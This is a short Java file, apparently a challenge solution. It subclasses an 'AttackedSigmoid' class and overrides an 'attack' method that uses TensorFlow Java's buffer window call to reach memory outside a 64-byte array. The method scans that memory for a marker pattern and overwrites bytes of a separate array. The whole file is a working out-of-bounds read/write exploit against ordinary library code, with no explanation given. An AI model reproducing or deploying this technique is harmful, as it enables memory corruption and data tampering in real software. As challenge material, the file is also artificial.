import java.util.Arrays;
import org.tensorflow.ndarray.buffer.ByteDataBuffer;
import org.tensorflow.ndarray.buffer.DataBuffers;
import org.tensorflow.op.Ops;

public class Solution extends AttackedSigmoid {
    @Override
    protected void attack(Ops tf) {
        byte[] own = new byte[64];
        byte[] other = new byte[64];
        Arrays.fill(other, (byte) 0x5e);
        ByteDataBuffer wide = DataBuffers.of(own, false, false).window(1 << 16).buffer();
        for (long i = own.length; i < wide.size() - 8; i++) {
            int length = 0;
            while (length < 8 && wide.getByte(i + length) == 0x5e) {
                length++;
            }
            if (length == 8) {
                wide.setByte((byte) 1, i);
                if (other[0] == 1) {
                    return;
                }
            }
        }
        throw new IllegalStateException("the other array was not found");
    }
}
